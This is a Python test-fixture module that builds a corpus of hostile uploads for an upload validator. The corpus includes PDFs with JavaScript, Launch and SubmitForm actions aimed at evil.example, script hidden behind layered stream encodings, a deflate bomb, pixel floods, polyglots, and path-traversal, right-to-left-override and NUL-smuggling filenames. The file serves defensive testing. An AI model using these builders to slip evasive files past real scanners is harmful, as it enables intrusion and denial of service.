"""The hostile-upload corpus, built in code at test time.

Nothing binary or suspicious is committed: every file below is made by the functions here — PDFs
with a real cross-reference table, the stream encodings a reader applies (Flate, LZW, ASCIIHex,
ASCII85, RunLength, PNG predictors), images with Pillow. :data:`CORPUS` lists each hostile upload
with the status and the words of the Chinese message it must be refused with.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib
from dataclasses import dataclass

from PIL import Image, ImageDraw, PngImagePlugin

# --- PDF building ---------------------------------------------------------------------------------

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>>>"
CONTENT = b"BT /F1 12 Tf 72 720 Td (hello) Tj ET"


def stream(entries: bytes, data: bytes) -> bytes:
    """A stream object's body: ``<<entries /Length n>>stream … endstream``."""
    return b"<<" + entries + b"/Length %d>>stream\n" % len(data) + data + b"\nendstream"


def pdf(*extra: bytes, catalog: bytes = CATALOG, trailer: bytes = b"", header: bytes = b"%PDF-1.7\n") -> bytes:
    """A complete PDF: catalog 1, pages 2, one page 3 with its content 4, then ``extra`` as 5, 6, …,
    with a correct cross-reference table, so that a reader opens it exactly as written."""
    bodies = [catalog, PAGES, PAGE, stream(b"", CONTENT), *extra]
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<</Size %d/Root 1 0 R" % (len(bodies) + 1) + trailer + b">>\nstartxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def object_stream(objects: list[tuple[int, bytes]], filters: bytes = b"", encode=lambda data: data) -> bytes:
    """An object stream (/Type /ObjStm) holding ``objects`` (number, body), encoded by ``encode``."""
    offsets, body = [], b""
    for number, content in objects:
        offsets.append(b"%d %d" % (number, len(body)))
        body += content + b" "
    head = b" ".join(offsets) + b" "
    entries = b"/Type/ObjStm/N %d/First %d" % (len(objects), len(head)) + filters
    return stream(entries, encode(head + body))


SCRIPT_ACTION = b"<</Type/Action/S/JavaScript/JS(app.alert('x'))>>"


def catalog_with(entries: bytes) -> bytes:
    return b"<</Type/Catalog/Pages 2 0 R" + entries + b">>"


# --- the encodings a reader applies -------------------------------------------------------------

def ascii_hex(data: bytes) -> bytes:
    return data.hex().upper().encode() + b">"


def ascii85(data: bytes) -> bytes:
    return base64.a85encode(data, wrapcol=64) + b"~>"


def run_length(data: bytes, run: int = 3) -> bytes:
    """Literal runs of ``run`` bytes (so no word survives in the encoded bytes), then end of data."""
    out = bytearray()
    for i in range(0, len(data), run):
        piece = data[i:i + run]
        out += bytes([len(piece) - 1]) + piece
    return bytes(out + b"\x80")


def lzw(data: bytes, early: int = 1) -> bytes:
    """LZW as PDF writes it (§7.4.4): 9–12-bit codes MSB first, clear 256 first, end 257 last."""
    table = {bytes([i]): i for i in range(256)}
    width, next_code, acc, held, out = 9, 258, 0, 0, bytearray()

    def emit(code):
        nonlocal acc, held
        acc, held = (acc << width) | code, held + width
        while held >= 8:
            held -= 8
            out.append((acc >> held) & 0xFF)

    emit(256)
    word = b""
    for byte in data:
        candidate = word + bytes([byte])
        if candidate in table:
            word = candidate
            continue
        emit(table[word])
        if next_code < 4096:
            table[candidate] = next_code
            next_code += 1
            if next_code + early > 1 << width and width < 12:
                width += 1
        word = bytes([byte])
    if word:
        emit(table[word])
        next_code += 1
        if next_code + early > 1 << width and width < 12:
            width += 1
    emit(257)
    if held:
        out.append((acc << (8 - held)) & 0xFF)
    return bytes(out)


def png_predicted(data: bytes, columns: int, kinds=(0, 1, 2, 3, 4)) -> bytes:
    """``data`` in rows of ``columns`` bytes, each row filtered with the next PNG filter of ``kinds``."""
    rows = [data[i:i + columns].ljust(columns, b" ") for i in range(0, len(data), columns)]
    out, prior = bytearray(), bytes(columns)
    for index, row in enumerate(rows):
        kind = kinds[index % len(kinds)]
        encoded = bytearray()
        for i, value in enumerate(row):
            left = row[i - 1] if i else 0
            up = prior[i]
            corner = prior[i - 1] if i else 0
            if kind == 0:
                guess = 0
            elif kind == 1:
                guess = left
            elif kind == 2:
                guess = up
            elif kind == 3:
                guess = (left + up) >> 1
            else:
                p = left + up - corner
                pa, pb, pc = abs(p - left), abs(p - up), abs(p - corner)
                guess = left if pa <= pb and pa <= pc else up if pb <= pc else corner
            encoded.append((value - guess) & 0xFF)
        out += bytes([kind]) + encoded
        prior = row
    return bytes(out)


def deflate_bomb(inflated_mb: int = 50, copies: int = 30) -> bytes:
    """About 1.5 MB of PDF that inflates to ``copies`` × ``inflated_mb`` MB (the issue's 1.65 GB file)."""
    chunk = zlib.compress(b"\0" * inflated_mb * 1024 * 1024, 9)
    return pdf(*(stream(b"/Filter/FlateDecode", chunk) for _ in range(copies)))


# --- images ---------------------------------------------------------------------------------------

def scan_image(size=(620, 877), mode="RGB") -> Image.Image:
    """Something like a scanned certificate: paper, a frame, lines of "text", a seal."""
    image = Image.new(mode, size, "white")
    draw = ImageDraw.Draw(image)
    w, h = size
    draw.rectangle((w // 40, h // 40, w - w // 40, h - h // 40), outline="black", width=max(1, w // 150))
    for y in range(h // 6, h * 3 // 4, max(8, h // 30)):
        draw.line((w // 10, y, w * 9 // 10, y), fill="black", width=max(1, h // 200))
    draw.ellipse((w * 6 // 10, h * 7 // 10, w * 8 // 10, h * 7 // 10 + w // 5), outline="red", width=max(1, w // 120))
    return image


def encode(image: Image.Image, fmt: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=fmt, **options)
    return buffer.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A valid tiny PNG whose header says ``width`` × ``height``: a pixel flood."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0"))
            + chunk(b"IEND", b""))


def png_with_text(text: str) -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text)
    return encode(scan_image((64, 64)), "PNG", pnginfo=info)


def zip_bytes() -> bytes:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "this is an archive")
    return buffer.getvalue()


ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(46) + b"PE\x00\x00" + bytes(200)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'


_BUILT: dict[str, bytes] = {}


@dataclass(frozen=True)
class Hostile:
    label: str
    filename: str
    build: object  # () -> bytes: built when a test first asks, then kept for the run
    status: int
    says: str  # words the Chinese message must contain
    page_says: str = ""  # where the page's form field answers first (Django's own "empty file")

    def content(self) -> bytes:
        if self.label not in _BUILT:
            _BUILT[self.label] = self.build()
        return _BUILT[self.label]


NOT_OURS, ACTIVE, CANNOT_CHECK = "只接受 PDF、JPG 或 PNG", "含有脚本", "无法完成安全检查"
POLYGLOT, PIXELS = "夹带网页代码或压缩包", "像素过大"


def _js_behind(filters: bytes, encode) -> object:
    return lambda: pdf(object_stream([(9, SCRIPT_ACTION)], filters, encode), catalog=catalog_with(b"/OpenAction 9 0 R"))


CORPUS: list[Hostile] = [
    # renamed executables, archives and web pages: refused by their first bytes
    Hostile("ELF named ../../etc/passwd", "../../etc/passwd", lambda: ELF, 415, NOT_OURS),
    Hostile("PE renamed .jpg behind a right-to-left override", "证书\u202egpj.exe", lambda: PE, 415, NOT_OURS),
    Hostile("ZIP named con.pdf", "con.pdf", zip_bytes, 415, NOT_OURS),
    Hostile("HTML under a 300-character .pdf name", "证" * 296 + ".pdf", lambda: HTML, 415, NOT_OURS),
    Hostile("ELF renamed .pdf with a NUL", "report\x00.pdf", lambda: ELF, 415, NOT_OURS),
    Hostile("SVG renamed .png", "photo.png", lambda: SVG, 415, NOT_OURS),
    Hostile("SVG renamed .jpg", "photo.jpg", lambda: b"<?xml version='1.0'?>" + SVG, 415, NOT_OURS),
    Hostile("PDF header after 100 bytes", "scan.pdf", lambda: b" " * 100 + pdf(), 415, NOT_OURS),
    Hostile("HTML then a PDF within 1024 bytes", "scan.pdf", lambda: HTML + pdf(), 415, NOT_OURS),
    Hostile("zero bytes", "empty.pdf", lambda: b"", 400, "文件是空的", page_says="空文件"),
    # polyglots
    Hostile("PDF that is an HTML page", "scan.pdf", lambda: pdf(header=b"%PDF-1.7\n%" + HTML + b"\n"), 415, POLYGLOT),
    Hostile("PDF with HTML in a string", "scan.pdf",
            lambda: pdf(b"<</Title(<html><body><script>alert(1)</script>)>>"), 415, POLYGLOT),
    Hostile("JPEG + ZIP", "photo.jpg", lambda: encode(scan_image(), "JPEG") + zip_bytes(), 415, POLYGLOT),
    Hostile("PNG + HTML in a text chunk", "photo.png",
            lambda: png_with_text("<script>alert(1)</script>"), 415, POLYGLOT),
    Hostile("PDF + ZIP", "scan.pdf", lambda: pdf() + zip_bytes(), 415, POLYGLOT),
    # active PDFs, plain
    Hostile("PDF OpenAction JavaScript", "scan.pdf",
            lambda: pdf(SCRIPT_ACTION, catalog=catalog_with(b"/OpenAction 5 0 R")),
            415, ACTIVE),
    Hostile("PDF JavaScript name tree", "scan.pdf",
            lambda: pdf(b"<</Names[(a) 6 0 R]>>", SCRIPT_ACTION, catalog=catalog_with(b"/Names<</JavaScript 5 0 R>>")),
            415, ACTIVE),
    Hostile("PDF page AA action", "scan.pdf",
            lambda: pdf(b"<</O<</S/Named/N/Print>>>>", catalog=catalog_with(b"/AA 5 0 R")),
            415, ACTIVE),
    Hostile("PDF Launch", "scan.pdf",
            lambda: pdf(b"<</S/Launch/F(cmd.exe)>>", catalog=catalog_with(b"/OpenAction 5 0 R")),
            415, ACTIVE),
    Hostile("PDF SubmitForm", "scan.pdf", lambda: pdf(b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>>>"),
            415, ACTIVE),
    Hostile("PDF ImportData", "scan.pdf", lambda: pdf(b"<</S/ImportData/F(data.fdf)>>"), 415, ACTIVE),
    Hostile("PDF GoToR (another file)", "scan.pdf",
            lambda: pdf(b"<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"),
            415, ACTIVE),
    Hostile("PDF embedded file", "scan.pdf",
            lambda: pdf(stream(b"/Type/EmbeddedFile", b"MZ payload"), b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
                        catalog=catalog_with(b"/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>")), 415, ACTIVE),
    Hostile("PDF attachment without a type", "scan.pdf",
            lambda: pdf(stream(b"", b"payload"), b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"), 415, ACTIVE),
    Hostile("PDF RichMedia", "scan.pdf", lambda: pdf(b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 1 1]>>"), 415, ACTIVE),
    Hostile("PDF XFA form", "scan.pdf",
            lambda: pdf(stream(b"", b"<xdp:xdp/>"), catalog=catalog_with(b"/AcroForm<</XFA 5 0 R>>")),
            415, ACTIVE),
    Hostile("PDF encrypted", "scan.pdf",
            lambda: pdf(b"<</Filter/Standard/V 2/R 3/O(x)/U(y)/P -4>>", trailer=b"/Encrypt 5 0 R"),
            415, ACTIVE),
    Hostile("PDF name obfuscated /J#61vaScript", "scan.pdf",
            lambda: pdf(b"<</S/J#61vaScr#69pt/J#53(x)>>", catalog=catalog_with(b"/Op#65nAction 5 0 R")), 415, ACTIVE),
    # active PDFs, hidden in encoded object streams
    Hostile("PDF JS in a Flate object stream", "scan.pdf",
            _js_behind(b"/Filter/FlateDecode", zlib.compress), 415, ACTIVE),
    Hostile("PDF JS in an ASCIIHex object stream", "scan.pdf",
            _js_behind(b"/Filter/ASCIIHexDecode", ascii_hex), 415, ACTIVE),
    Hostile("PDF JS in an ASCII85 object stream", "scan.pdf",
            _js_behind(b"/Filter/ASCII85Decode", ascii85), 415, ACTIVE),
    Hostile("PDF JS in an LZW object stream", "scan.pdf", _js_behind(b"/Filter/LZWDecode", lzw), 415, ACTIVE),
    Hostile("PDF JS in a RunLength object stream", "scan.pdf", _js_behind(b"/Filter/RunLengthDecode", run_length),
            415, ACTIVE),
    Hostile("PDF JS behind ASCII85 + Flate + PNG predictor", "scan.pdf",
            _js_behind(b"/Filter[/A85/Fl]/DecodeParms[null<</Predictor 12/Columns 7>>]",
                       lambda data: ascii85(zlib.compress(png_predicted(data, 7)))), 415, ACTIVE),
    Hostile("PDF JS behind hex + LZW + RunLength", "scan.pdf",
            _js_behind(b"/Filter[/AHx/LZW/RL]", lambda data: ascii_hex(lzw(run_length(data)))), 415, ACTIVE),
    Hostile("PDF object hidden in an image's data", "scan.pdf",
            lambda: pdf(stream(b"/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray"
                               b"/Filter/DCTDecode", b"\xff\xd8 9 0 obj " + SCRIPT_ACTION + b" endobj \xff\xd9")),
            415, ACTIVE),
    # bounds
    Hostile("PDF deflate bomb (1.5 MB → 1.5 GB)", "scan.pdf", deflate_bomb, 415, CANNOT_CHECK),
    Hostile("PDF with an encrypted-stream filter", "scan.pdf",
            lambda: pdf(stream(b"/Filter/Crypt", b"xx")), 415, CANNOT_CHECK),
    Hostile("PNG pixel flood 50000×50000", "photo.png", lambda: png_declaring(50_000, 50_000), 413, PIXELS),
    Hostile("PNG 1×1 declaring 6000×5000", "photo.png", lambda: png_declaring(6000, 5000), 413, PIXELS),
    Hostile("JPEG of 36 megapixels", "photo.jpg", lambda: encode(scan_image((7200, 5000), "L"), "JPEG", quality=30),
            413, PIXELS),
    Hostile("11 MB PDF", "big.pdf", lambda: pdf(stream(b"", b"0" * (11 * 1024 * 1024))), 413, "文件过大"),
]
